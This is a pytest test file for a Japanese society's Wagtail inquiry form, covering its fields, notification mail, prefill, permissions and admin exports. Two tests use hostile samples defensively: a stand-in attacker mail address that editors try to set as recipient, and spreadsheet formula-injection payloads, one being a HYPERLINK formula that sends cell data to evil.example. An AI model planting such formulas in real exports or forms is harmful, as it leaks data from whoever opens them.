"""お問い合わせ (guide 16): the inquiry form page, its mail, who sees the submissions, and the links."""

import csv
import importlib
import io
import re

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core import mail
from django.urls import reverse
from django_tasks_db.models import DBTaskResult
from wagtail.contrib.forms.models import FormSubmission
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text

from cms_pages.models import InquiryFormField, InquiryPage, SocietySettings
from cms_pages.tasks import send_inquiry_mail
from tests.cms_pages.conftest import seed_demo as reseed
from tests.factories import MemberFactory, UserFactory, user_in
from tests.two_factor import log_in_staff

pytestmark = pytest.mark.django_db


@pytest.fixture
def inquiry(demo_site):
    return InquiryPage.objects.get()


def field_names(page):
    """The form's input names by label, as a browser would find them."""
    return {field.label: field.clean_name for field in page.get_form_fields()}


def filled_in(page, **overrides):
    names = field_names(page)
    data = {
        names["氏名"]: "佐藤 一郎",
        names["フリガナ"]: "サトウ イチロウ",
        names["会員番号(またはゲストユーザー番号・不明)"]: "不明",
        names["メールアドレス"]: "ichiro@example.com",
        names["お問い合わせ内容"]: "ログインできません。\nパスワードを再設定しても同じ画面に戻ります。",
    }
    data.update(overrides)
    return data


def field_block(body, label):
    """The HTML of one field's block (label, input, errors) in the page."""
    match = re.search(rf'<div class="field[^"]*">\s*<label[^>]*>{re.escape(label)}</label>.*?</div>', body, re.S)
    assert match, f"no field {label}"
    return match.group(0)


# The page


def test_seeded_inquiry_page_asks_for_what_the_guide_requires(client, inquiry):
    body = client.get(inquiry.url).content.decode()
    for label in ["氏名", "フリガナ", "会員番号(またはゲストユーザー番号・不明)", "メールアドレス", "お問い合わせ内容"]:
        assert f">{label}</label>" in body
    assert "分からない方は「不明」とご記入ください。" in body
    assert "<textarea" in field_block(body, "お問い合わせ内容")
    assert all(field.required for field in inquiry.get_form_fields())


def test_page_points_to_the_qa_first_and_names_the_societys_mail_domain(client, inquiry, settings):
    settings.DEFAULT_FROM_EMAIL = "日本消化器内視鏡技師会 <noreply@mail.example.org>"
    body = client.get(inquiry.url).content.decode()
    assert "お問い合わせの前に" in body and "会員管理システムに関する Q&amp;A</a>をご覧ください" in body
    # The contact address of the society settings (info@example.jp) and the system's sender.
    assert "@example.jp、@mail.example.org からのメールを受信できるように設定してください" in body
    assert "jgets.jp" not in body


# Submitting


def test_submission_is_stored_and_mailed_to_the_secretariat(client, inquiry, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(inquiry.url, filled_in(inquiry))
    assert response.status_code == 200
    assert "お問い合わせを受け付けました" in response.content.decode()

    submission = FormSubmission.objects.get(page=inquiry)
    names = field_names(inquiry)
    assert submission.form_data[names["氏名"]] == "佐藤 一郎"
    assert submission.form_data[names["会員番号(またはゲストユーザー番号・不明)"]] == "不明"
    assert "homepage" not in submission.form_data

    [message] = mail.outbox
    assert message.to == ["info@example.jp"]  # no recipients in the settings: the society's contact address
    assert message.subject == "【会員管理システム】お問い合わせ"
    assert message.reply_to == ["ichiro@example.com"]
    assert "氏名: 佐藤 一郎" in message.body
    assert "フリガナ: サトウ イチロウ" in message.body
    assert "会員番号(またはゲストユーザー番号・不明): 不明" in message.body
    assert "メールアドレス: ichiro@example.com" in message.body
    assert "お問い合わせ内容:\n  ログインできません。\n  パスワードを再設定しても同じ画面に戻ります。" in message.body
    assert f"/admin/forms/submissions/{inquiry.pk}/" in message.body


def test_the_mail_is_a_background_task_queued_with_the_submission(
    client, inquiry, settings, django_capture_on_commit_callbacks
):
    """As in production: the visitor does not wait for the mail server; the worker sends it."""
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(inquiry.url, filled_in(inquiry))
    assert "お問い合わせを受け付けました" in response.content.decode()
    assert mail.outbox == []
    queued = DBTaskResult.objects.get(task_path=send_inquiry_mail.module_path)
    assert queued.args_kwargs["kwargs"] == {"submission_id": FormSubmission.objects.get().pk}

    queued.task.call(**queued.args_kwargs["kwargs"])  # what the worker does
    [message] = mail.outbox
    assert "氏名: 佐藤 一郎" in message.body


def test_without_recipients_in_the_settings_the_mail_goes_to_the_society_contact(
    client, inquiry, django_capture_on_commit_callbacks
):
    settings = SocietySettings.objects.get()
    assert settings.inquiry_recipients == ""
    settings.contact_email = "jimukyoku@example.jp"
    settings.save()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(inquiry.url, filled_in(inquiry))
    assert [message.to for message in mail.outbox] == [["jimukyoku@example.jp"]]


def test_required_fields_say_what_is_missing_in_japanese_next_to_the_field(
    client, inquiry, django_capture_on_commit_callbacks
):
    names = field_names(inquiry)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(inquiry.url, filled_in(inquiry, **{names["氏名"]: "", names["お問い合わせ内容"]: ""}))
    assert response.status_code == 200
    body = response.content.decode()
    assert "入力内容をご確認ください。" in body
    assert "氏名を入力してください。" in field_block(body, "氏名")
    assert "お問い合わせ内容を入力してください。" in field_block(body, "お問い合わせ内容")
    assert "を入力してください" not in field_block(body, "フリガナ")
    assert 'value="サトウ イチロウ"' in field_block(body, "フリガナ")  # what was typed stays
    assert not FormSubmission.objects.exists()
    assert mail.outbox == []


def test_a_wrong_email_address_is_refused_in_japanese(client, inquiry):
    names = field_names(inquiry)
    response = client.post(inquiry.url, filled_in(inquiry, **{names["メールアドレス"]: "ichiro@"}))
    assert "有効なメールアドレスを入力してください。" in field_block(response.content.decode(), "メールアドレス")
    assert not FormSubmission.objects.exists()


def test_a_filled_honeypot_gets_the_thank_you_page_but_nothing_is_stored_or_sent(
    client, inquiry, django_capture_on_commit_callbacks
):
    body = client.get(inquiry.url).content.decode()
    assert 'class="honeypot" aria-hidden="true"' in body and 'name="homepage"' in body
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(inquiry.url, filled_in(inquiry, homepage="https://spam.example.com/"))
    assert response.status_code == 200
    assert "お問い合わせを受け付けました" in response.content.decode()
    assert not FormSubmission.objects.exists()
    assert mail.outbox == []


# Where the inquiries go: the secretariat's setting, not the page (issue 11)

EVIL = "collector@evil.example"


def settings_url():
    return reverse("wagtailsettings:edit", args=["cms_pages", "societysettings", SocietySettings.objects.get().site_id])


def inquiry_mail_goes_to(client, page, django_capture_on_commit_callbacks):
    client.logout()
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(page.url, filled_in(page))
    [message] = mail.outbox
    return message


def edit_form_data(page, **extra):
    """What the page editor posts to publish the page as it is, plus ``extra``."""
    fields = [
        {
            "id": field.pk,
            "label": field.label,
            "field_type": field.field_type,
            "required": "on",
            "help_text": field.help_text,
            "choices": "",
            "default_value": "",
            "prefill": field.prefill,
            "ORDER": str(n + 1),
        }
        for n, field in enumerate(page.form_fields.all())
    ]
    data = nested_form_data(
        {
            "title": page.title,
            "slug": page.slug,
            "intro": rich_text(page.intro),
            "thank_you_text": rich_text(page.thank_you_text),
            "subject": page.subject,
            "form_fields": inline_formset(fields, initial=len(fields)),
        }
    )
    return {**data, "action-publish": "action-publish", **extra}


def test_an_editor_cannot_publish_where_inquiries_go(client, inquiry, django_capture_on_commit_callbacks):
    editor = user_in("編集者")
    log_in_staff(client, editor)
    edit_url = reverse("wagtailadmin_pages:edit", args=[inquiry.pk])
    body = client.get(edit_url).content.decode()
    assert 'name="to_address"' not in body and 'name="from_address"' not in body
    assert "学会の設定の「お問い合わせの通知メール」" in body
    # A crafted POST with the fields Wagtail's email form would have: the page is published,
    # the addresses are not taken.
    response = client.post(
        edit_url, edit_form_data(inquiry, to_address=EVIL, from_address=EVIL, subject="変更した件名")
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    inquiry.refresh_from_db()
    assert inquiry.subject == "変更した件名" and inquiry.live_revision.user == editor
    message = inquiry_mail_goes_to(client, inquiry, django_capture_on_commit_callbacks)
    assert message.to == ["info@example.jp"] and EVIL not in message.from_email
    assert message.subject == "変更した件名"


def test_a_revision_with_an_address_publishes_no_address(client, inquiry, django_capture_on_commit_callbacks):
    """Revisions are JSON of the page's fields: one saved before the upgrade (or forged) with a
    to_address has no field to put it in, also when an editor publishes or reverts to it."""
    revision = inquiry.save_revision(user=user_in("編集者"))
    revision.content.update(to_address=EVIL, from_address=EVIL)
    revision.save()
    revision.publish()
    message = inquiry_mail_goes_to(client, InquiryPage.objects.get(), django_capture_on_commit_callbacks)
    assert message.to == ["info@example.jp"] and EVIL not in message.from_email


def test_only_the_secretariat_sets_where_inquiries_go(client, inquiry, django_capture_on_commit_callbacks):
    log_in_staff(client, user_in("編集者"))
    response = client.get(settings_url())
    assert response.status_code == 302 and response.url == reverse("wagtailadmin_home")
    assert client.post(settings_url(), {"inquiry_recipients": EVIL}).status_code == 302
    assert SocietySettings.objects.get().inquiry_recipients == ""

    log_in_staff(client, user_in("事務局"))
    body = client.get(settings_url()).content.decode()
    assert "お問い合わせの送信先" in body
    current = SocietySettings.objects.get()
    form = {
        "society_name": current.society_name,
        "contact_email": current.contact_email,
        "inquiry_page": inquiry.pk,
        "inquiry_recipients": "jimu@example.jp, kaicho@example.jp",
        "inquiry_from_address": "otoiawase@example.jp",
        "receipt_issuer_name": "",
        "receipt_issuer_address": "",
        "invoice_registration_number": "",
        "invoice_due_days": 30,
    }
    response = client.post(settings_url(), {**form, "inquiry_recipients": "jimu@example.jp, kaicho@"})
    assert "メールアドレスの形式が正しくありません: kaicho@" in response.content.decode()
    assert client.post(settings_url(), form).status_code == 302
    message = inquiry_mail_goes_to(client, inquiry, django_capture_on_commit_callbacks)
    assert message.to == ["jimu@example.jp", "kaicho@example.jp"]
    assert message.from_email == "otoiawase@example.jp"


@pytest.mark.parametrize(
    ("page_addresses", "contact", "expected"),
    [
        ([""], "info@example.jp", ""),  # the contact address: stays the fallback
        (["info@example.jp"], "info@example.jp", ""),
        (["jimu@example.jp"], "info@example.jp", "jimu@example.jp"),
        (["a@example.jp, b@example.jp", ""], "info@example.jp", "a@example.jp, b@example.jp, info@example.jp"),
        (["a@example.jp", "A@example.jp, b@example.jp"], "", "a@example.jp, b@example.jp"),
        ([""], "", ""),
    ],
)
def test_the_upgrade_keeps_delivering_where_each_page_delivered(page_addresses, contact, expected):
    migration = importlib.import_module("cms_pages.migrations.0004_inquiry_recipients_in_settings")
    assert migration.merged_recipients(page_addresses, contact) == expected


# Prefill


def test_a_logged_in_member_finds_their_details_filled_in(client, inquiry):
    member = MemberFactory(
        family_name="鈴木",
        given_name="美咲",
        family_name_kana="スズキ",
        given_name_kana="ミサキ",
        user__username="0054321",
        user__email="misaki@example.jp",
    )
    client.force_login(member.user)
    body = client.get(inquiry.url).content.decode()
    assert "ログイン中の会員情報を入力しています" in body
    assert 'value="鈴木 美咲"' in field_block(body, "氏名")
    assert 'value="スズキ ミサキ"' in field_block(body, "フリガナ")
    assert 'value="0054321"' in field_block(body, "会員番号(またはゲストユーザー番号・不明)")
    assert 'value="misaki@example.jp"' in field_block(body, "メールアドレス")
    assert "</textarea>" in field_block(body, "お問い合わせ内容")
    assert re.search(r"<textarea[^>]*>\s*</textarea>", field_block(body, "お問い合わせ内容"))


def test_a_member_may_change_the_prefilled_details(client, inquiry, member, django_capture_on_commit_callbacks):
    client.force_login(member.user)
    names = field_names(inquiry)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(inquiry.url, filled_in(inquiry, **{names["メールアドレス"]: "work@example.jp"}))
    assert FormSubmission.objects.get().form_data[names["メールアドレス"]] == "work@example.jp"
    assert mail.outbox[0].reply_to == ["work@example.jp"]


def test_a_guest_finds_the_guest_number_filled_in(client, inquiry):
    guest = UserFactory(username="G0000123", kind="guest", email="guest@example.com")
    client.force_login(guest)
    body = client.get(inquiry.url).content.decode()
    assert 'value="G0000123"' in field_block(body, "会員番号(またはゲストユーザー番号・不明)")
    assert 'value="guest@example.com"' in field_block(body, "メールアドレス")


def test_visitors_and_staff_get_an_empty_form(client, inquiry):
    assert "ログイン中の会員情報" not in client.get(inquiry.url).content.decode()
    log_in_staff(client, user_in("事務局"))
    body = client.get(inquiry.url).content.decode()
    assert "ログイン中の会員情報" not in body
    assert "value=" not in field_block(body, "氏名")


# Submissions in the admin


@pytest.fixture
def submitted(client, inquiry, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        client.post(inquiry.url, filled_in(inquiry))
    client.logout()
    return FormSubmission.objects.get()


def submission_urls(page):
    return [
        reverse("wagtailforms:index"),
        reverse("wagtailforms:index_results"),
        reverse("wagtailforms:list_submissions", args=[page.pk]),
        reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv",
        reverse("wagtailforms:list_submissions_results", args=[page.pk]),
    ]


def test_groups_have_the_submission_permissions_of_the_secretariat_only():
    staff = Group.objects.get(name="事務局")
    editors = Group.objects.get(name="編集者")
    assert {"view_formsubmission", "delete_formsubmission"} <= set(staff.permissions.values_list("codename", flat=True))
    assert not editors.permissions.filter(codename__endswith="_formsubmission").exists()


def test_editors_may_edit_the_inquiry_page_but_never_see_the_submissions(client, inquiry, submitted):
    log_in_staff(client, user_in("編集者"))
    assert client.get(reverse("wagtailadmin_pages:edit", args=[inquiry.pk])).status_code == 200
    assert '"name": "forms"' not in client.get(reverse("wagtailadmin_home")).content.decode()
    for url in submission_urls(inquiry):
        response = client.get(url)
        assert response.status_code == 302, url
        assert response.url == reverse("wagtailadmin_home"), url
        assert "佐藤 一郎" not in response.content.decode()
    delete = reverse("wagtailforms:delete_submissions", args=[inquiry.pk]) + f"?selected-submissions={submitted.pk}"
    client.post(delete)
    assert FormSubmission.objects.filter(pk=submitted.pk).exists()


def test_the_secretariat_lists_reads_and_deletes_the_submissions(client, inquiry, submitted):
    log_in_staff(client, user_in("事務局"))
    assert '"name": "forms"' in client.get(reverse("wagtailadmin_home")).content.decode()
    for url in submission_urls(inquiry):
        assert client.get(url).status_code == 200, url
    assert "お問い合わせ" in client.get(reverse("wagtailforms:index")).content.decode()
    listing = client.get(reverse("wagtailforms:list_submissions", args=[inquiry.pk])).content.decode()
    assert "佐藤 一郎" in listing and "ichiro@example.com" in listing
    assert "homepage" not in listing
    delete = reverse("wagtailforms:delete_submissions", args=[inquiry.pk]) + f"?selected-submissions={submitted.pk}"
    assert client.post(delete).status_code == 302
    assert not FormSubmission.objects.exists()


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_the_submissions_export_escapes_formulas_for_excel(client, inquiry):
    """Anyone may type a formula into the public form; the secretariat opens the export in Excel."""
    names = field_names(inquiry)
    for text in FORMULAS:
        FormSubmission.objects.create(
            page=inquiry, form_data={names["氏名"]: text, names["お問い合わせ内容"]: "普通の文"}
        )
    log_in_staff(client, user_in("事務局"))
    response = client.get(reverse("wagtailforms:list_submissions", args=[inquiry.pk]) + "?export=csv")
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"), newline="")))
    name_column = rows[0].index("氏名")
    assert [row[name_column] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert {row[rows[0].index("お問い合わせ内容")] for row in rows[1:]} == {"普通の文"}
    assert f"{inquiry.slug}-export-" in response["Content-Disposition"]

    xlsx = client.get(reverse("wagtailforms:list_submissions", args=[inquiry.pk]) + "?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in FORMULAS]
    assert len(cells) == len(FORMULAS) and all(cell.data_type == "s" for cell in cells)


# Members area and links


def test_members_menu_has_the_inquiry_entry(member_client):
    body = member_client.get(reverse("member:dashboard")).content.decode()
    assert '<a href="/member/inquiry">お問い合わせ</a>' in body
    assert body.index(">お知らせ一覧<") < body.index(">お問い合わせ<") < body.index(">パスワード再設定<")


def test_member_inquiry_leads_to_the_inquiry_form(member_client, inquiry):
    response = member_client.get("/member/inquiry")
    assert response.status_code == 302
    assert response.url == inquiry.url
    assert "お問い合わせ内容" in member_client.get(response.url).content.decode()


def test_member_inquiry_prefers_the_page_chosen_in_the_settings(member_client, inquiry):
    other = inquiry.get_parent().add_child(instance=InquiryPage(title="会費のお問い合わせ", slug="dues-inquiry"))
    settings = SocietySettings.objects.get()
    settings.inquiry_page = other
    settings.save()
    assert member_client.get("/member/inquiry").url == other.url
    other.unpublish()
    assert member_client.get("/member/inquiry").url == inquiry.url


def test_without_a_published_form_the_member_gets_the_secretariats_address(member_client, inquiry):
    inquiry.unpublish()
    response = member_client.get("/member/inquiry")
    assert response.status_code == 200
    body = response.content.decode()
    assert '<a href="mailto:info@example.jp">info@example.jp</a>' in body
    assert 'aria-current="page" class="active">お問い合わせ' in body


def test_member_inquiry_needs_a_login(client, inquiry):
    response = client.get("/member/inquiry")
    assert response.status_code == 302
    assert response.url.startswith("/member/login")


def test_login_page_links_to_the_inquiry_form_next_to_the_qa(client, inquiry):
    body = client.get("/member/login").content.decode()
    links = re.search(r'<p class="links">(.*?)</p>', body, re.S).group(1)
    assert "会員管理システムに関する Q&amp;A" in links
    assert f'<a href="{inquiry.url}">お問い合わせ</a>' in links


def test_login_page_has_no_inquiry_link_without_a_published_form(client, inquiry):
    inquiry.unpublish()
    body = client.get("/member/login").content.decode()
    assert "会員管理システムに関する Q&amp;A" in body
    assert ">お問い合わせ</a>" not in body


def test_the_inquiry_link_costs_the_login_page_no_extra_query(client, inquiry, django_assert_max_num_queries):
    inquiry.unpublish()
    client.get("/member/login")  # warm the content-type cache
    with django_assert_max_num_queries(100) as without_form:
        client.get("/member/login")
    inquiry.save_revision().publish()
    with django_assert_max_num_queries(len(without_form)):
        assert ">お問い合わせ</a>" in client.get("/member/login").content.decode()


def test_home_page_links_to_the_inquiry_form(client, inquiry):
    assert f'<a href="{inquiry.url}">お問い合わせ</a>' in client.get("/").content.decode()


def test_seed_demo_creates_the_inquiry_form_once(inquiry, settings):
    reseed(settings)
    page = InquiryPage.objects.get()
    assert page.pk == inquiry.pk
    assert InquiryFormField.objects.filter(page=page).count() == 5
    assert SocietySettings.objects.get().inquiry_page_id == page.pk
